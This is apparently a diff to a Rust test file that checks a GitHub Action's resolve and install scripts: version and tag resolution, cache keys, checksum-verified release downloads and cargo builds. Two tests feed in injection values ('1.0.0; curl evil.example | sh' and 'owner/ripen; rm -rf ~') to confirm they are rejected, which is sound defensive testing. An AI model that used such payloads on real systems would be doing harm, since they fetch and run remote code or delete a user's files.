@@ -1,9 +1,15 @@
 //! The composite action (`action.yml`) and its scripts (`action/*.sh`), exercised the way a
 //! GitHub runner would: inputs as `INPUT_*` environment variables, `$GITHUB_OUTPUT`,
 //! `$GITHUB_STEP_SUMMARY` and `$RUNNER_TEMP` as files, and ripen from this build.
+//!
+//! Installing: the action's ref is simulated by its directory (`.../_actions/OWNER/REPO/REF`)
+//! and `github.action_ref`; a release is served from a directory (`GITHUB_SERVER_URL=file://…`)
+//! holding archives made by `scripts/release-archive.sh`; `cargo` is a stand-in on PATH that
+//! records its arguments.
 
 use serde_json::Value;
-use std::path::PathBuf;
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
 use std::process::Command;
 
 fn repo() -> PathBuf {
@@ -41,6 +47,7 @@ fn inputs_reach_shell_only_through_env() {
         "config",
         "rules",
         "version",
+        "install",
     ] {
         assert!(a["inputs"].get(input).is_some(), "input {input}");
     }
@@ -55,40 +62,82 @@ fn inputs_reach_shell_only_through_env() {
     }
 }
 
-fn scan_sh(env: &[(&str, &str)]) -> (i32, String, String, PathBuf, tempfile::TempDir) {
-    let tmp = tempfile::tempdir().unwrap();
-    let output = tmp.path().join("output");
-    let summary = tmp.path().join("summary.md");
+/// What a step script did: exit code, stdout, stderr and what it wrote to `$GITHUB_OUTPUT`.
+struct Step {
+    code: i32,
+    stdout: String,
+    stderr: String,
+    output: String,
+}
+
+/// One step script run as the runner would run it, in the repository: `$GITHUB_OUTPUT`,
+/// `$GITHUB_PATH`, `$GITHUB_STEP_SUMMARY` and `$RUNNER_TEMP` in `tmp`, HOME there too, and of
+/// the runner's and the action's variables (`GITHUB_*`, `INPUT_*`, `RIPEN_*`) only those given.
+fn step(script: &str, tmp: &Path, env: &[(&str, &str)]) -> Step {
+    let output = tmp.join("output");
+    let _ = std::fs::remove_file(&output);
     let mut c = Command::new("bash");
-    c.arg(repo().join("action/scan.sh"))
-        .current_dir(repo())
-        .env("RIPEN_BIN", assert_cmd::cargo::cargo_bin("ripen"))
-        .env("GITHUB_ACTIONS", "true")
-        .env("GITHUB_OUTPUT", &output)
-        .env("GITHUB_STEP_SUMMARY", &summary)
-        .env("RUNNER_TEMP", tmp.path())
-        .env("NO_COLOR", "1")
-        .env_remove("RIPEN_TODAY");
-    for k in [
-        "INPUT_PATH",
-        "INPUT_FAIL_UNDER",
-        "INPUT_FORMAT",
-        "INPUT_SARIF_FILE",
-        "INPUT_CONFIG",
-        "INPUT_RULES",
-    ] {
-        c.env_remove(k);
+    c.arg(repo().join("action").join(script))
+        .current_dir(repo());
+    for (k, _) in std::env::vars_os() {
+        let k = k.to_string_lossy();
+        if ["GITHUB_", "INPUT_", "RIPEN_"]
+            .iter()
+            .any(|p| k.starts_with(p))
+        {
+            c.env_remove(&*k);
+        }
     }
+    c.env("HOME", tmp.join("home"))
+        .env("GITHUB_OUTPUT", &output)
+        .env("GITHUB_PATH", tmp.join("path"))
+        .env("GITHUB_STEP_SUMMARY", tmp.join("summary.md"))
+        .env("RUNNER_TEMP", tmp)
+        .env("RUNNER_OS", "Linux")
+        .env("RUNNER_ARCH", "X64")
+        .env("NO_COLOR", "1");
     for (k, v) in env {
         c.env(k, v);
     }
     let out = c.output().unwrap();
-    let outputs = std::fs::read_to_string(&output).unwrap_or_default();
+    Step {
+        code: out.status.code().unwrap_or(-1),
+        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
+        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
+        output: std::fs::read_to_string(&output).unwrap_or_default(),
+    }
+}
+
+/// A step script's exit code, stderr and `$GITHUB_OUTPUT` as a map.
+fn run_step(
+    script: &str,
+    tmp: &Path,
+    env: &[(&str, &str)],
+) -> (i32, String, BTreeMap<String, String>) {
+    let s = step(script, tmp, env);
+    let outputs = s
+        .output
+        .lines()
+        .filter_map(|l| l.split_once('='))
+        .map(|(k, v)| (k.to_string(), v.to_string()))
+        .collect();
+    (s.code, s.stderr, outputs)
+}
+
+fn scan_sh(env: &[(&str, &str)]) -> (i32, String, String, PathBuf, tempfile::TempDir) {
+    let tmp = tempfile::tempdir().unwrap();
+    let bin = assert_cmd::cargo::cargo_bin("ripen");
+    let mut all = vec![
+        ("RIPEN_BIN", bin.to_str().unwrap()),
+        ("GITHUB_ACTIONS", "true"),
+    ];
+    all.extend_from_slice(env);
+    let s = step("scan.sh", tmp.path(), &all);
     (
-        out.status.code().unwrap_or(-1),
-        String::from_utf8_lossy(&out.stdout).to_string(),
-        outputs,
-        summary,
+        s.code,
+        s.stdout,
+        s.output,
+        tmp.path().join("summary.md"),
         tmp,
     )
 }
@@ -160,61 +209,323 @@ fn hostile_inputs_stay_arguments() {
     assert!(!marker.exists(), "nothing was executed");
 }
 
+/// The action checked out by the runner at `uses: owner/ripen@REF`, holding a Cargo.toml of
+/// `version`.
+fn checked_out_action(tmp: &Path, git_ref: &str, version: &str) -> PathBuf {
+    let dir = tmp.join("_actions/owner/ripen").join(git_ref);
+    std::fs::create_dir_all(&dir).unwrap();
+    std::fs::write(
+        dir.join("Cargo.toml"),
+        format!("[package]\nname = \"ripen-mlops\"\nversion = \"{version}\"\n"),
+    )
+    .unwrap();
+    dir
+}
+
+/// resolve.sh for an action used at `git_ref` whose Cargo.toml says `version`.
+fn resolve(
+    git_ref: &str,
+    version: &str,
+    inputs: &[(&str, &str)],
+) -> (i32, String, BTreeMap<String, String>) {
+    let tmp = tempfile::tempdir().unwrap();
+    let action = checked_out_action(tmp.path(), git_ref, version);
+    let mut env = vec![
+        ("GITHUB_ACTION_PATH", action.to_str().unwrap()),
+        ("RIPEN_ACTION_REF", git_ref),
+        ("RIPEN_ACTION_REPOSITORY", "owner/ripen"),
+    ];
+    env.extend_from_slice(inputs);
+    run_step("resolve.sh", tmp.path(), &env)
+}
+
+#[test]
+fn a_release_tag_maps_to_its_release_anything_else_to_cargo() {
+    let sha = "0123456789abcdef0123456789abcdef01234567";
+    for (git_ref, crate_version, inputs, method, version) in [
+        ("v0.2.0", "0.2.0", &[][..], "release", "0.2.0"),
+        ("v0", "0.2.0", &[], "release", "0.2.0"),
+        ("v0.2", "0.2.0", &[], "release", "0.2.0"),
+        ("v1.0.0-rc.1", "1.0.0-rc.1", &[], "release", "1.0.0-rc.1"),
+        // A tag that does not hold that version (moved, or a fork's): build what it holds.
+        ("v0.3.0", "0.2.0", &[], "cargo", ""),
+        ("v0.3", "0.2.0", &[], "cargo", ""),
+        ("v1", "0.2.0", &[], "cargo", ""),
+        (sha, "0.2.0", &[], "cargo", ""),
+        ("main", "0.2.0", &[], "cargo", ""),
+        ("release-candidate", "0.2.0", &[], "cargo", ""),
+        // Inputs: an explicit version wins; install: cargo always builds.
+        (
+            sha,
+            "0.2.0",
+            &[("RIPEN_VERSION", "v0.1.5")],
+            "release",
+            "0.1.5",
+        ),
+        (
+            "v0.2.0",
+            "0.2.0",
+            &[("RIPEN_INSTALL", "cargo")],
+            "cargo",
+            "",
+        ),
+        (
+            "v0.2.0",
+            "0.2.0",
+            &[("RIPEN_INSTALL", "release")],
+            "release",
+            "0.2.0",
+        ),
+    ] {
+        let (code, stderr, out) = resolve(git_ref, crate_version, inputs);
+        assert_eq!(code, 0, "{git_ref} {inputs:?}: {stderr}");
+        assert_eq!(out["method"], method, "{git_ref} {inputs:?}");
+        assert_eq!(
+            out.get("version").map_or("", String::as_str),
+            version,
+            "{git_ref}"
+        );
+        assert_eq!(out["repository"], "owner/ripen");
+        assert!(out["dir"].ends_with("/home/.cache/ripen-action"), "{out:?}");
+        assert_eq!(
+            out.contains_key("key"),
+            method == "cargo",
+            "a cache key for builds only"
+        );
+    }
+}
+
+#[test]
+fn resolve_trusts_the_ref_only_for_the_action_s_own_checkout() {
+    // A composite action nested in another sees the outer action's ref and repository.
+    let tmp = tempfile::tempdir().unwrap();
+    let action = checked_out_action(tmp.path(), "v0.2.0", "0.2.0");
+    let (code, _, out) = run_step(
+        "resolve.sh",
+        tmp.path(),
+        &[
+            ("GITHUB_ACTION_PATH", action.to_str().unwrap()),
+            ("RIPEN_ACTION_REF", "v0.2.0"),
+            ("RIPEN_ACTION_REPOSITORY", "someone/wrapper"),
+        ],
+    );
+    assert_eq!(code, 0);
+    assert_eq!(out["method"], "cargo");
+    // `uses: ./`: no ref, no repository.
+    let (code, _, out) = run_step(
+        "resolve.sh",
+        tmp.path(),
+        &[("GITHUB_ACTION_PATH", repo().to_str().unwrap())],
+    );
+    assert_eq!(code, 0);
+    assert_eq!(out["method"], "cargo");
+}
+
+#[test]
+fn resolve_refuses_contradictions_and_malformed_inputs() {
+    let sha = "0123456789abcdef0123456789abcdef01234567";
+    for (git_ref, inputs, message) in [
+        (
+            sha,
+            &[("RIPEN_INSTALL", "release")][..],
+            "install: release, but",
+        ),
+        (
+            "v0.2.0",
+            &[("RIPEN_INSTALL", "cargo"), ("RIPEN_VERSION", "0.2.0")],
+            "contradict",
+        ),
+        ("v0.2.0", &[("RIPEN_INSTALL", "docker")], "install must be"),
+        (
+            "v0.2.0",
+            &[("RIPEN_VERSION", "1.0.0; curl evil.example | sh")],
+            "version must be a release number",
+        ),
+    ] {
+        let (code, stderr, out) = resolve(git_ref, "0.2.0", inputs);
+        assert_eq!(code, 2, "{inputs:?}");
+        assert!(stderr.contains(message), "{inputs:?}: {stderr}");
+        assert!(out.is_empty(), "no outputs on an error: {out:?}");
+    }
+}
+
+#[test]
+fn the_cache_key_follows_the_source() {
+    let tmp = tempfile::tempdir().unwrap();
+    let env = [("GITHUB_ACTION_PATH", repo().to_str().unwrap().to_owned())];
+    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
+    let (code, _, a) = run_step("resolve.sh", tmp.path(), &env);
+    assert_eq!(code, 0);
+    assert!(a["key"].starts_with("ripen-Linux-X64-"), "{a:?}");
+    let (_, _, b) = run_step("resolve.sh", tmp.path(), &env);
+    assert_eq!(a["key"], b["key"], "stable for the same source");
+    let (_, _, other) = resolve("main", "0.2.0", &[]);
+    assert_ne!(a["key"], other["key"], "another source, another key");
+}
+
+/// This machine's release target, as install.sh names it.
+fn host_target() -> &'static str {
+    match (std::env::consts::OS, std::env::consts::ARCH) {
+        ("linux", "x86_64") => "x86_64-unknown-linux-musl",
+        ("linux", "aarch64") => "aarch64-unknown-linux-musl",
+        ("macos", "x86_64") => "x86_64-apple-darwin",
+        ("macos", "aarch64") => "aarch64-apple-darwin",
+        other => panic!("no release target for {other:?}"),
+    }
+}
+
+/// A stand-in `cargo` that records its arguments and "installs" this build's ripen into
+/// `--root`/bin.
+fn fake_cargo(tmp: &Path) -> (PathBuf, PathBuf) {
+    let dir = tmp.join("fakebin");
+    std::fs::create_dir_all(&dir).unwrap();
+    let log = tmp.join("cargo-args");
+    let script = format!(
+        "#!/bin/sh\nprintf '%s\\n' \"$@\" > '{log}'\nwhile [ $# -gt 0 ]; do [ \"$1\" = --root ] && root=$2; shift; done\nmkdir -p \"$root/bin\" && cp '{bin}' \"$root/bin/ripen\"\n",
+        log = log.display(),
+        bin = assert_cmd::cargo::cargo_bin("ripen").display(),
+    );
+    let cargo = dir.join("cargo");
+    std::fs::write(&cargo, script).unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(&cargo, std::fs::Permissions::from_mode(0o755)).unwrap();
+    (dir, log)
+}
+
+/// resolve.sh, then install.sh with resolve's outputs, as action.yml chains them (no cache hit).
+fn install(tmp: &Path, git_ref: &str, server: &str) -> (i32, String, PathBuf, PathBuf) {
+    let action = checked_out_action(tmp, git_ref, env!("CARGO_PKG_VERSION"));
+    let (fakebin, cargo_log) = fake_cargo(tmp);
+    let path = format!("{}:{}", fakebin.display(), std::env::var("PATH").unwrap());
+    let action = action.to_str().unwrap();
+    let (code, stderr, out) = run_step(
+        "resolve.sh",
+        tmp,
+        &[
+            ("GITHUB_ACTION_PATH", action),
+            ("RIPEN_ACTION_REF", git_ref),
+            ("RIPEN_ACTION_REPOSITORY", "owner/ripen"),
+        ],
+    );
+    assert_eq!(code, 0, "{stderr}");
+    let get = |k: &str| out.get(k).cloned().unwrap_or_default();
+    let (code, stderr, _) = run_step(
+        "install.sh",
+        tmp,
+        &[
+            ("GITHUB_ACTION_PATH", action),
+            ("GITHUB_SERVER_URL", server),
+            ("PATH", &path),
+            ("RIPEN_DIR", &get("dir")),
+            ("RIPEN_METHOD", &get("method")),
+            ("RIPEN_VERSION", &get("version")),
+            ("RIPEN_REPOSITORY", &get("repository")),
+        ],
+    );
+    (
+        code,
+        stderr,
+        PathBuf::from(get("dir")).join("bin/ripen"),
+        cargo_log,
+    )
+}
+
+/// A release of this version served from a directory, as GitHub serves release assets.
+fn serve_release(tmp: &Path) -> (String, PathBuf) {
+    let assets = tmp.join(format!(
+        "server/owner/ripen/releases/download/v{}",
+        env!("CARGO_PKG_VERSION")
+    ));
+    let out = Command::new("bash")
+        .arg(repo().join("scripts/release-archive.sh"))
+        .arg(host_target())
+        .arg(assert_cmd::cargo::cargo_bin("ripen"))
+        .arg(&assets)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    (
+        format!("file://{}", tmp.join("server").display()),
+        assets.join(format!("ripen-{}.tar.gz", host_target())),
+    )
+}
+
+#[test]
+fn a_tag_ref_downloads_the_release_and_verifies_its_checksum() {
+    let tmp = tempfile::tempdir().unwrap();
+    let (server, archive) = serve_release(tmp.path());
+    let git_ref = format!("v{}", env!("CARGO_PKG_VERSION"));
+    let (code, stderr, ripen, cargo_log) = install(tmp.path(), &git_ref, &server);
+    assert_eq!(code, 0, "{stderr}");
+    assert!(!cargo_log.exists(), "no build: cargo was not called");
+    let out = Command::new(&ripen).arg("--version").output().unwrap();
+    assert_eq!(
+        String::from_utf8_lossy(&out.stdout),
+        format!("ripen {}\n", env!("CARGO_PKG_VERSION"))
+    );
+    let path = std::fs::read_to_string(tmp.path().join("path")).unwrap();
+    assert_eq!(path.trim_end(), ripen.parent().unwrap().to_str().unwrap());
+
+    // The same release with a corrupted archive: refused, nothing installed.
+    std::fs::remove_file(&ripen).unwrap();
+    let mut bytes = std::fs::read(&archive).unwrap();
+    let n = bytes.len();
+    bytes[n / 2] ^= 0xff;
+    std::fs::write(&archive, bytes).unwrap();
+    let (code, stderr, ripen, cargo_log) = install(tmp.path(), &git_ref, &server);
+    assert_eq!(code, 1, "{stderr}");
+    assert!(stderr.contains("checksum mismatch"), "{stderr}");
+    assert!(!ripen.exists() && !cargo_log.exists());
+
+    // No such release: the download fails the step.
+    let (code, _, ripen, _) = install(tmp.path(), &git_ref, "file:///nonexistent");
+    assert_ne!(code, 0);
+    assert!(!ripen.exists());
+}
+
+#[test]
+fn a_sha_ref_builds_the_action_s_source_with_cargo() {
+    let tmp = tempfile::tempdir().unwrap();
+    let sha = "0123456789abcdef0123456789abcdef01234567";
+    let (code, stderr, ripen, cargo_log) = install(tmp.path(), sha, "file:///nonexistent");
+    assert_eq!(code, 0, "{stderr}");
+    let args = std::fs::read_to_string(&cargo_log).expect("cargo was called");
+    let action = tmp.path().join("_actions/owner/ripen").join(sha);
+    let root = ripen.parent().unwrap().parent().unwrap();
+    assert_eq!(
+        args,
+        format!(
+            "install\n--path\n{}\n--locked\n--root\n{}\n",
+            action.display(),
+            root.display()
+        )
+    );
+    assert!(ripen.exists());
+}
+
 #[test]
 fn install_refuses_a_malformed_version_before_any_download() {
     let tmp = tempfile::tempdir().unwrap();
-    let out = Command::new("bash")
-        .arg(repo().join("action/install.sh"))
-        .env("RIPEN_DIR", tmp.path())
-        .env("RIPEN_VERSION", "1.0.0; curl evil.example | sh")
-        .env("RIPEN_REPOSITORY", "owner/ripen")
-        .env("GITHUB_PATH", tmp.path().join("path"))
-        .env("PATH", "/usr/bin:/bin")
-        .output()
-        .unwrap();
-    assert_eq!(out.status.code(), Some(2));
-    assert!(String::from_utf8_lossy(&out.stderr).contains("version must be a release number"));
-    let out = Command::new("bash")
-        .arg(repo().join("action/install.sh"))
-        .env("RIPEN_DIR", tmp.path())
-        .env("RIPEN_VERSION", "0.2.0")
-        .env("RIPEN_REPOSITORY", "")
-        .env("GITHUB_PATH", tmp.path().join("path"))
-        .output()
-        .unwrap();
-    assert_eq!(out.status.code(), Some(2));
-}
-
-#[test]
-fn cache_key_follows_the_source() {
-    let tmp = tempfile::tempdir().unwrap();
-    let run = || {
-        let out = tmp.path().join("out");
-        let _ = std::fs::remove_file(&out);
-        let status = Command::new("bash")
-            .arg(repo().join("action/cache-key.sh"))
-            .env("GITHUB_ACTION_PATH", repo())
-            .env("GITHUB_OUTPUT", &out)
-            .env("RUNNER_OS", "Linux")
-            .env("RUNNER_ARCH", "X64")
-            .status()
-            .unwrap();
-        assert!(status.success());
-        std::fs::read_to_string(&out).unwrap()
-    };
-    let a = run();
-    assert!(a.contains("\nkey=ripen-Linux-X64-"), "{a}");
-    assert!(a.starts_with("dir="), "{a}");
-    assert_eq!(a, run(), "stable for the same source");
-}
-
-#[test]
-fn pre_commit_hook_runs_ripen() {
-    let text = std::fs::read_to_string(repo().join(".pre-commit-hooks.yaml")).unwrap();
-    let hooks: Value = serde_saphyr::from_str(&text).unwrap();
-    let h = &hooks[0];
-    assert_eq!(h["id"], "ripen");
-    assert_eq!(h["language"], "rust");
-    assert_eq!(h["pass_filenames"], false);
-    assert!(h["entry"].as_str().unwrap().starts_with("ripen scan"));
+    for (version, repository) in [
+        ("1.0.0; curl evil.example | sh", "owner/ripen"),
+        ("0.2.0", ""),
+        ("0.2.0", "owner/ripen; rm -rf ~"),
+    ] {
+        let (code, stderr, _) = run_step(
+            "install.sh",
+            tmp.path(),
+            &[
+                ("RIPEN_DIR", tmp.path().to_str().unwrap()),
+                ("RIPEN_METHOD", "release"),
+                ("RIPEN_VERSION", version),
+                ("RIPEN_REPOSITORY", repository),
+                ("PATH", "/usr/bin:/bin"),
+            ],
+        );
+        assert_eq!(code, 2, "{version} {repository}: {stderr}");
+    }
 }
